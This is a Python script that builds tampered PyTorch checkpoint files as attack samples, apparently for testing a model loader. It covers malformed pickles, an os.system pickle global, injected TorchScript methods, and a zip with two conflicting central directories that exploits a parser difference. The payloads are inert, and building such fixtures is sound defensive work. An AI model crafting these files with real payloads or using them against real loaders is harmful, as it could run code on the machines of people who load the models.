#!/usr/bin/python3
"""Makes a crafted copy of a real StreetGAN checkpoint, as an attacker would: one record of the
zip changed, every other record as it was.

    craft_checkpoint.py IN.pt OUT.pt VARIANT

VARIANT:
  empty-stack     data.pkl is the four bytes PROTO 2, TUPLE1 (on an empty stack), STOP
  far-offset      the first tensor's storage offset becomes 2**28 elements
  huge-numel      the first storage claims 2**40 elements
  missing-storage the first storage names a record the zip does not hold
  method          a code/ class gains a __setstate__ method (TorchScript that would run on load)
  statement       a code/ file gains a module-level statement
  self-holding    a code/ class holds an attribute of its own type
  deep-type       a code/ attribute's type nests 50 deep
  legacy          a model.json record is added (PyTorch 1.0's legacy format, another parser)
  case-twin       a second data.pkl whose name differs only in case
  foreign-global  data.pkl calls os.system
  two-directories the end record lists the real records, a ZIP64 end record (which LibTorch's zip
                  reader follows) the same names with code/__torch__.py holding a method
"""
import pickletools
import struct
import sys
import zipfile
import zlib


def records(path):
    with zipfile.ZipFile(path) as z:
        return [(info.filename, z.read(info.filename)) for info in z.infolist()]


def first_op_after(pickle, after_op, wanted):
    seen = False
    for op, arg, pos in pickletools.genops(pickle):
        if op.name == after_op:
            seen = True
        elif seen and op.name in wanted:
            return op, arg, pos
    raise SystemExit("no %s after %s" % (wanted, after_op))


def op_length(pickle, pos):
    ops = list(pickletools.genops(pickle))
    for i, (op, arg, p) in enumerate(ops):
        if p == pos:
            return ops[i + 1][2] - pos
    raise SystemExit("no opcode at %d" % pos)


def replace_op(pickle, pos, new):
    return pickle[:pos] + new + pickle[pos + op_length(pickle, pos):]


def craft(items, variant):
    prefix = items[0][0].split("/")[0]
    out = []
    for name, data in items:
        short = name[len(prefix) + 1:]
        if short == "data.pkl":
            if variant == "empty-stack":
                data = b"\x80\x02\x85."
            elif variant == "far-offset":
                # (storage, offset, size, stride, ...): the offset is the first int after BINPERSID.
                _, _, pos = first_op_after(data, "BINPERSID", ("BININT1", "BININT2", "BININT"))
                data = replace_op(data, pos, b"J" + struct.pack("<i", 2 ** 28))
            elif variant == "huge-numel":
                # ('storage', cls, key, location, numel): numel is the int just before the TUPLE.
                _, _, pos = first_op_after(data, "BINUNICODE", ("BININT1", "BININT2", "BININT"))
                data = replace_op(data, pos, b"\x8a\x08" + struct.pack("<q", 2 ** 40))
            elif variant == "missing-storage":
                data = data.replace(b"X\x01\x00\x00\x000", b"X\x01\x00\x00\x00Z", 1)
            elif variant == "foreign-global":
                data = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00true\x85R."
        if variant == "method" and short == "code/__torch__.py":
            data += b"  def __setstate__(self, state: Tuple[int]) -> None:\n    return None\n"
        if variant == "statement" and short == "code/__torch__.py":
            data = b"import os\n" + data
        if variant == "self-holding" and short == "code/__torch__.py":
            data += b"  again : __torch__.Module\n"
        if variant == "deep-type" and short == "code/__torch__.py":
            data += b"  deep : " + b"List[" * 50 + b"int" + b"]" * 50 + b"\n"
        out.append((name, data))
    if variant == "legacy":
        out.append((prefix + "/model.json", b"{}"))
    if variant == "case-twin":
        out.append((prefix + "/DATA.PKL", b"\x80\x02\x85."))
    return out


def local_entry(name, data):
    n = name.encode()
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(n), 0) + n + data


def central_entry(name, data, offset):
    n = name.encode()
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
                       len(n), 0, 0, 0, 0, 0, offset) + n


def two_directories(items):
    """The records, then directory A (the end record's) of them as they are and directory B (the
    ZIP64 end record's) with code/__torch__.py replaced by a second entry of the same name."""
    code = [name for name, _ in items if name.endswith("/code/__torch__.py")][0]
    evil = dict(items)[code] + b"  def __setstate__(self, state: Tuple[int]) -> None:\n    return None\n"
    body, offsets = b"", []
    for name, data in items + [(code, evil)]:
        offsets.append(len(body))
        body += local_entry(name, data)
    a = b"".join(central_entry(name, data, offsets[i]) for i, (name, data) in enumerate(items))
    b = b"".join(central_entry(name, evil if name == code else data, offsets[-1] if name == code else offsets[i])
                 for i, (name, data) in enumerate(items))
    a_at, b_at = len(body), len(body) + len(a)
    body += a + b
    zip64_at = len(body)
    count = len(items)
    body += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(b), b_at)
    body += struct.pack("<IIQI", 0x07064B50, 0, zip64_at, 1)
    body += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(a), a_at, 0)
    return body


def main():
    source, target, variant = sys.argv[1:4]
    if variant == "two-directories":
        with open(target, "wb") as out:
            out.write(two_directories(records(source)))
        return
    items = craft(records(source), variant)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as z:
        for name, data in items:
            z.writestr(zipfile.ZipInfo(name), data)


if __name__ == "__main__":
    main()
